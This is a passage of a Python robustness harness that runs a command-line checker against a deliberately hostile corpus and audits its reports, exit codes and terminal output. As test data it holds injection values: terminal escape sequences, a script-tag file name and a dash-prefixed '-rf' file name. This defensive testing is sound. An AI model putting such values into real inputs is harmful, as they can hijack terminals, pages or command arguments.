            ("sarif-schema", f"/{'/'.join(map(str, e.absolute_path))}: {shown(e.message, 160)}")
            for e in errors
        ]
    return problems


def audit_junit(path: Path) -> list[tuple[str, str]]:
    try:
        tree = ElementTree.parse(path)
    except ElementTree.ParseError as error:
        return [("junit-invalid", f"{path.name}: {shown(str(error))}")]
    for element in tree.iter():
        for text in (element.text or "", element.tail or "", *element.attrib.values()):
            problems = acting_problem(text, "junit-control")
            if problems:
                return problems
    return []


def audit_export(path: Path) -> list[tuple[str, str]]:
    """Cells of a CSV export a spreadsheet would run as formulas (a note, not a failure)."""
    csv.field_size_limit(2**31 - 1)  # the corpus's million-character symbol is one cell
    with path.open(encoding="utf-8", newline="") as stream:
        for row_number, row in enumerate(csv.reader(stream), 1):
            for cell in row:
                if cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell):
                    return [("csv-formula", f"{path.name} row {row_number}: cell {shown(cell, 120)}")]
    return []


def audit_tree(folder: Path, limit: int) -> list[tuple[str, str]]:
    """What `--fix-to` wrote: regular files and folders only, `limit` bytes at most."""
    problems, total = [], 0
    for directory, folders, files in os.walk(os.fsencode(folder)):
        for name in folders + files:
            info = os.lstat(os.path.join(directory, name))
            if not (stat.S_ISREG(info.st_mode) or stat.S_ISDIR(info.st_mode)):
                problems.append(("fix-to-special", f"{shown(name)} mode {stat.filemode(info.st_mode)}"))
            total += info.st_size if stat.S_ISREG(info.st_mode) else 0
    if total > limit:
        problems.append(("fix-to-size", f"{total:,} bytes written (limit {limit:,})"))
    return problems


class Judge:
    """Every invariant of one run, given the corpus and how strict to be about the JSON report."""

    def __init__(self, corpus: Path, before: Snapshot, strict_json: bool) -> None:
        self.corpus = corpus
        self.before = before
        self.strict_json = strict_json
        self.own_script = (TEMPLATES / "report.js").read_text("utf-8")

    def __call__(self, result: Result) -> None:
        spec, fail, note = result.spec, result.failures, result.notes
        out = result.stdout.decode("utf-8", "surrogateescape")
        err = result.stderr.decode("utf-8", "surrogateescape")
        if result.status is None:
            fail.append(("hang", f"no end within the timeout ({result.seconds:.0f} s)"))
        elif result.status not in (0, 1, 2):
            fail.append(("exit-status", f"exit {result.status}: {shown(err[-300:] or out[-300:])}"))
        for name, text in (("stdout", out), ("stderr", err)):
            at = text.find("Traceback")
            if at >= 0:
                fail.append(("traceback", f"{name}: {around(text, at, 200)}"))
            fail.extend(stream_problems(name, text, spec.tty))
            plain = SGR.sub("", text.replace("\r\n", "\n")) if spec.tty else text
            fail.extend(command_problems(name, plain, "github" in spec.checks))
        if "json-out" in spec.checks:
            problems, notes, _ = audit_json(out, "stdout", self.strict_json)
            fail.extend(problems)
            note.extend(notes)
        if "html-out" in spec.checks:
            fail.extend(audit_html(out, "stdout", self.own_script))
        if "reports" in spec.checks:
            reports = spec.files["reports"]
            for name in ("report.json", "report.html"):
                if not (reports / name).is_file():
                    fail.append(("report-missing", f"{name} not written"))
            if (reports / "report.json").is_file():
                problems, notes, _ = audit_json(
                    (reports / "report.json").read_text("utf-8", "surrogateescape"),
                    "report.json",
                    self.strict_json,
                )
                fail.extend(problems)
                note.extend(notes)
            if (reports / "report.html").is_file():
                html_text = (reports / "report.html").read_text("utf-8", "surrogateescape")
                fail.extend(audit_html(html_text, "report.html", self.own_script))
        for key, audit in (("sarif", audit_sarif), ("junit", audit_junit)):
            if key in spec.files:
                path = spec.files[key]
                fail.extend(
                    audit(path) if path.is_file() else [(f"{key}-missing", f"{path.name} not written")]
                )
        if "markdown" in spec.files:
            path = spec.files["markdown"]
            if path.is_file():
                fail.extend(audit_markdown(path.read_text("utf-8", "surrogateescape"), path.name))
            else:
                fail.append(("markdown-missing", f"{path.name} not written"))
        if "json" in spec.files:
            path = spec.files["json"]
            if path.is_file():
                problems, notes, _ = audit_json(
                    path.read_text("utf-8", "surrogateescape"), path.name, self.strict_json
                )
                fail.extend(problems)
                note.extend(notes)
            else:
                fail.append(("report-missing", f"{path.name} not written"))
        if "export" in spec.files:
            path = spec.files["export"]
            if path.is_file():
                note.extend(audit_export(path))
            else:
                fail.append(("export-missing", f"{path.name} not written"))
        if "fixto" in spec.files:
            fail.extend(audit_tree(spec.files["fixto"], 256 << 20))
        if "ledger" in spec.files and not list(spec.files["ledger"].glob("ledger-*.parquet")):
            fail.append(("ledger-missing", "no ledger-*.parquet written"))
        if "fix-copy" in spec.files:
            copy = os.fsencode(spec.files["fix-copy"])
            kept = snapshot_changes(
                {k: v for k, v in self.before.items() if not stat.S_ISREG(v[0])},
                {k: v for k, v in snapshot(copy).items() if not stat.S_ISREG(v[0]) or k not in self.before},
                lambda a, b: (stat.S_IFMT(a[0]), a[4]) == (stat.S_IFMT(b[0]), b[4]),
            )
            fail.extend(("fix-kept", change) for change in kept[:5])
        changes = snapshot_changes(self.before, snapshot(os.fsencode(self.corpus)), lambda a, b: a == b)
        if changes:
            fail.append(("corpus-modified", "; ".join(changes[:5])))


# ---------------------------------------------------------------------------------------------
# The plan


class Plan:
    """The runs, each in a folder of its own under `work`."""

    def __init__(self, corpus: Path, work: Path) -> None:
        self.corpus = corpus
        self.work = work
        self.specs: list[Spec] = []
        self.count = 0

    def folder(self) -> Path:
        path = self.work / f"run-{self.count:03d}"
        self.count += 1
        path.mkdir()
        return path

    def add(
        self,
        case: str,
        mode: str,
        tty: bool,
        args: list[str | bytes],
        checks: tuple[str, ...] = (),
        stdin: bytes | None = None,
        cwd: Path | None = None,
        **files: str,
    ) -> Spec:
        """A run; `files` name its outputs (relative to its folder), substituted for {name} in args."""
        here = self.folder()
        paths = {key: here / value for key, value in files.items()}
        paths["reports"] = here / "reports"
        argv = [a.format(**{k: str(v) for k, v in paths.items()}) if isinstance(a, str) else a for a in args]
        spec = Spec(case, mode, tty, argv, cwd or here, checks, stdin, paths)
        self.specs.append(spec)
        return spec


def plan_folder_runs(plan: Plan, corpus: Path, fix_copy: Path, snapshots: Path) -> tuple[Spec, Spec]:
    """The runs over the whole corpus; returns the `--ledger` and `baseline record` runs."""
    folder = str(corpus)
    reports = ("--report-dir", "{reports}")
    plan.add("corpus", "check", False, ["check", folder, *reports], ("reports",))
    plan.add("corpus", "check", True, ["check", folder, *reports], ("reports",))
    plan.add(
        "corpus",
        "check --json - --no-report",
        False,
        ["check", folder, "--json", "-", "--no-report"],
        ("json-out",),
    )
    plan.add(
        "corpus",
        "check --format json",
        False,
        ["check", folder, "--format", "json", "--no-report"],
        ("json-out",),
    )
    plan.add(
        "corpus",
        "check --format github",
        False,
        ["check", folder, "--format", "github", "--no-report"],
        ("github",),
    )
    plan.add(
        "corpus",
        "check --format github",
        True,
        ["check", folder, "--format", "github", "--no-report"],
        ("github",),
    )
    plan.add("corpus", "check --statistics", False, ["check", folder, "--statistics", "--no-report"])
    plan.add("corpus", "check --statistics", True, ["check", folder, "--statistics", "--no-report"])
    plan.add(
        "corpus",
        "check --sarif --junit --markdown",
        False,
        [
            "check",
            folder,
            "--no-report",
            "--sarif",
            "{sarif}",
            "--junit",
            "{junit}",
            "--markdown",
            "{markdown}",
        ],
        sarif="out.sarif",
        junit="junit.xml",
        markdown="summary.md",
    )
    plan.add(
        "corpus", "check --html -", False, ["check", folder, "--html", "-", "--no-report"], ("html-out",)
    )
    plan.add(
        "corpus",
        "check --include-quotes --json F --export F.csv",
        False,
        ["check", folder, "--include-quotes", "--no-report", "--json", "{json}", "--export", "{export}"],
        json="quotes.json",
        export="export.csv",
    )
    plan.add("corpus", "check --history", False, ["check", folder, "--history", "--no-report"])
    plan.add(
        "corpus",
        "check --snapshots hostile.csv",
        False,
        ["check", folder, "--snapshots", str(snapshots), "--no-report"],
    )
    plan.add("corpus", "check --jobs 2", False, ["check", folder, "--jobs", "2", *reports], ("reports",))
    plan.add("corpus", "check --diff", False, ["check", folder, "--diff", "--unsafe-fixes", "--no-report"])
    plan.add("corpus", "check --diff", True, ["check", folder, "--diff", "--unsafe-fixes", "--no-report"])
    plan.add(
        "corpus",
        "check --fix-to DIR",
        False,
        ["check", folder, "--fix-to", "{fixto}", "--unsafe-fixes", "--no-report"],
        fixto="fixed",
    )
    spec = plan.add(
        "corpus copy",
        "check --fix --unsafe-fixes",
        False,
        ["check", str(fix_copy), "--fix", "--unsafe-fixes", *reports],
        ("reports",),
    )
    spec.files["fix-copy"] = fix_copy
    for forced in ("json", "csv", "html", "jsonl"):
        plan.add(
            "corpus",
            f"check --input-format {forced}",
            False,
            ["check", folder, "--input-format", forced, "--no-report"],
        )
    ledger = plan.add(
        "corpus",
        "check --ledger DIR",
        False,
        ["check", folder, "--ledger", "{ledger}", "--no-report"],
        ledger="ledger",
    )
    baseline = plan.add(
        "corpus",
        "baseline record",
        False,
        ["baseline", "record", folder, "--baseline", "{baseline}"],
        baseline="baseline.json",
    )
    plan.add("corpus", "timeline", False, ["timeline", folder])
    plan.add("corpus", "timeline", True, ["timeline", folder])
    plan.add(
        "corpus",
        "timeline --snapshots hostile.csv",
        False,
        ["timeline", folder, "--snapshots", str(snapshots)],
    )
    return ledger, baseline


def plan_stdin_runs(plan: Plan, corpus: Path) -> None:
    ansi = (corpus / "ansi.txt").read_bytes()
    plan.add(
        "stdin ansi", "check -", False, ["check", "-", "--report-dir", "{reports}"], ("reports",), stdin=ansi
    )
    plan.add(
        "stdin random",
        "check - --format github",
        False,
        ["check", "-", "--format", "github", "--no-report"],
        ("github",),
        stdin=random.Random(1).randbytes(65_536),
    )
    plan.add(
        "stdin nested",
        "check - --input-format json --format json",
        False,
        ["check", "-", "--input-format", "json", "--format", "json", "--no-report"],
        ("json-out",),
        stdin=b"[" * 200_000 + b"]" * 200_000,
    )


def plan_file_runs(plan: Plan, corpus: Path, entries: list[Entry]) -> None:
    """Each hostile entry alone: default reports piped and on a terminal, `--format github` piped."""
    base = os.fsencode(corpus)
    for entry in entries:
        if entry.label == "link-loop-b":
            continue
        dash = entry.path.startswith(b"-")
        cwd = corpus if dash else None  # `-rf.txt` as given: after `--`, and as ./-rf.txt
        path = entry.path if dash else os.path.join(base, entry.path)
        for mode, tty, options, checks, named in (
            ("check FILE", False, ["--report-dir", "{reports}"], ("reports",), [b"--", path]),
            (
                "check FILE",
                True,
                ["--report-dir", "{reports}"],
                ("reports",),
                [b"./" + path if dash else path],
            ),
            (
                "check --format github FILE",
                False,
                ["--format", "github", "--no-report"],
                ("github",),
                [b"--", path],
            ),
        ):
            plan.add(entry.label, mode, tty, ["check", *options, *named], checks, cwd=cwd)


def write_snapshots_csv(path: Path) -> None:
    """A capture-time table as hostile as the corpus: control characters, bad dates, unknown files."""
    rows = [
        "file,captured_at",
        "ctl\x1b[31mred\x07.txt,2024-03-28T10:00:00+05:00",
        "ansi.txt,9999-99-99T99:99:99",
        "nul.txt,nan",
        "\x1b]0;pwned\x07.txt,2024-03-28",
        "<script>alert(1)</script>.txt,-1",
        '"a,b\nc",2024-02-30',
        "crlf.txt," + "9" * 400,
        "separators.txt,1970-01-01T00:00:00Z",
        "separators.txt,2100-01-01T00:00:00Z",
    ]
    path.write_bytes(("\r\n".join(rows) + "\r\n").encode("utf-8"))


# ---------------------------------------------------------------------------------------------
# Main


def execute(spec: Spec, judge: Judge, timeout: float) -> Result:
    start = time.monotonic()
    runner = run_tty if spec.tty else run_piped
    status, out, err = runner(spec, timeout)
    result = Result(spec, status, out, err, time.monotonic() - start)
    judge(result)
    return result


def run_all(specs: list[Spec], judge: Judge, timeout: float, parallel: int) -> list[Result]:
    done = 0
    lock = threading.Lock()

    def one(spec: Spec) -> Result:
        nonlocal done
        result = execute(spec, judge, timeout)
        with lock:
            done += 1
            verdict = (
                "ok" if not result.failures else "FAIL " + ",".join(sorted({r for r, _ in result.failures}))
            )
            print(
                f"  [{done}/{len(specs)}] {result.seconds:6.1f} s  {spec.case} | {spec.mode} | "
                f"{'tty' if spec.tty else 'pipe'}: {verdict}",
                file=sys.stderr,
                flush=True,
            )
        return result

    with ThreadPoolExecutor(max_workers=parallel) as pool:
        return list(pool.map(one, specs))


def table(rows: list[tuple[str, str, str, str, str]]) -> str:
    header = ("case", "mode", "tty/pipe", "exit", "verdict")
    widths = [max(len(r[i]) for r in [header, *rows]) for i in range(4)]
    lines = []
    for row in [header, *rows]:
        lines.append("  ".join(c.ljust(w) for c, w in zip(row[:4], widths, strict=True)) + "  " + row[4])
    lines.insert(1, "-" * len(lines[0]))
    return "\n".join(lines)


def output_folder(parser: argparse.ArgumentParser, given: str | None) -> tuple[Path, bool]:
    """The folder to build everything in, and whether it is a temporary one of this run."""
    if given is None:
        return Path(tempfile.mkdtemp(prefix="quotecheck-hostile-")), True
    path = Path(given).absolute()
    if path.exists() or path.is_symlink():
        if not path.is_dir() or path.is_symlink():
            parser.error(f"--out {given}: not a folder")
        if any(path.iterdir()):
            parser.error(f"--out {given}: not empty; give an empty or new folder")
    else:
        path.mkdir(parents=True)
    if path.resolve().is_relative_to(ROOT):
        parser.error(f"--out {given}: inside the repository; give a folder outside it")
    return path, False


def main(argv: list[str] | None = None) -> int:
    """Command line: see the module docstring."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", metavar="DIR", help="build the corpus and run in this empty folder (kept)")
    parser.add_argument("--timeout", type=float, default=300.0, metavar="S", help="seconds a run may take")
    parser.add_argument("--parallel", type=int, default=min(2, os.cpu_count() or 1), help="runs at a time")
    parser.add_argument("--only", metavar="REGEX", help="only the runs whose case or mode matches")
    parser.add_argument("--strict-json", action="store_true", help="decoded acting characters in JSON fail")
    parser.add_argument("--keep", action="store_true", help="keep the temporary folder even when all passed")
    args = parser.parse_args(argv)
    if args.timeout <= 0 or args.parallel < 1:
        parser.error("--timeout and --parallel must be positive")
    started = time.monotonic()
    out, temporary = output_folder(parser, args.out)
    print(f"building the hostile corpus in {out}", file=sys.stderr, flush=True)
    corpus, work, fix_copy = out / "corpus", out / "work", out / "fix-copy"
    corpus.mkdir()
    work.mkdir()
    entries = build_corpus(corpus)
    copy_tree(os.fsencode(corpus), os.fsencode(fix_copy))
    snapshots = work / "hostile.csv"
    write_snapshots_csv(snapshots)
    untracked = git_untracked()
    before = snapshot(os.fsencode(corpus))
    judge = Judge(corpus, before, args.strict_json)

    plan = Plan(corpus, work)
    ledger, baseline = plan_folder_runs(plan, corpus, fix_copy, snapshots)
    plan_stdin_runs(plan, corpus)
    plan_file_runs(plan, corpus, entries)
    first = plan.specs
    plan.specs = []  # the runs on what the first ones wrote
    led = str(ledger.files["ledger"])
    plan.add("ledger", "history", False, ["history", led])
    plan.add("ledger", "history", True, ["history", led])
    plan.add("ledger", "history --format github", False, ["history", led, "--format", "github"], ("github",))
    plan.add(
        "ledger",
        "history --format json --json F",
        False,
        ["history", led, "--format", "json", "--json", "{json}"],
        ("json-out",),
        json="history.json",
    )
    plan.add(
        "corpus",
        "check --baseline F",
        False,
        ["check", str(corpus), "--baseline", str(baseline.files["baseline"]), "--no-report"],
    )
    second = plan.specs
    if args.only:
        pattern = re.compile(args.only)
        first = [s for s in first if pattern.search(f"{s.case} {s.mode}")]
        second = [s for s in second if pattern.search(f"{s.case} {s.mode}")]
    print(
        f"{len(entries)} corpus entries, {len(first) + len(second)} runs, {args.parallel} at a time",
        file=sys.stderr,
        flush=True,
    )
    results = run_all(first, judge, args.timeout, args.parallel)
    results += run_all(second, judge, args.timeout, args.parallel)

    rows = []
    for result in results:
        spec = result.spec
        verdict = (
            "ok" if not result.failures else "FAIL: " + ", ".join(sorted({r for r, _ in result.failures}))
        )
        status = "-" if result.status is None else str(result.status)
        rows.append((spec.case, spec.mode, "tty" if spec.tty else "pipe", status, verdict))
    final_problems = []
    after = snapshot(os.fsencode(corpus))
    changes = snapshot_changes(before, after, lambda a, b: a == b)
    if changes:
        final_problems.append(
            ("corpus", "unchanged after every run", "corpus-modified", "; ".join(changes[:10]))
        )
    if untracked is not None:
        new = sorted((git_untracked() or set()) - untracked)
        if new:
            final_problems.append(
                ("repository", "no new untracked file", "repo-modified", ", ".join(map(shown, new[:10])))
            )
    for case, mode, reason, _ in final_problems:
        rows.append((case, mode, "-", "-", f"FAIL: {reason}"))
    for case, mode in (("corpus", "unchanged after every run"), ("repository", "no new untracked file")):
        if not any(p[0] == case for p in final_problems):
            rows.append((case, mode, "-", "-", "ok"))

    print(table(rows))
    failed = [r for r in results if r.failures]
    if failed or final_problems:
        print("\nFailures:")
        for result in failed:
            spec = result.spec
            print(
                f"- {spec.case} | {spec.mode} | {'tty' if spec.tty else 'pipe'}: "
                f"python -m checker {shown(b' '.join(os.fsencode(a) for a in spec.args), 400)}"
            )
            for reason, detail in result.failures:
                print(f"    {reason}: {detail}")
        for case, mode, reason, detail in final_problems:
            print(f"- {case} | {mode}\n    {reason}: {detail}")
    notes: dict[str, list[str]] = {}
    for result in results:
        for reason, detail in result.notes:
            notes.setdefault(reason, []).append(f"{result.spec.case} | {result.spec.mode}: {detail}")
    if notes:
        print("\nNotes (not failures):")
        for reason, details in sorted(notes.items()):
            print(f"- {reason}: {len(details)} runs; first: {details[0]}")
    failures = len(failed) + len(final_problems)
    elapsed = time.monotonic() - started
    print(
        f"\ntotal {elapsed:.0f} s; corpus and outputs in {out}"
        + (" (removed)" if temporary and not failures and not args.keep else ""),
        file=sys.stderr,
    )
    if temporary and not failures and not args.keep:
        shutil.rmtree(out, ignore_errors=True)
    print(f"{len(results)} runs, {failures} failures")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
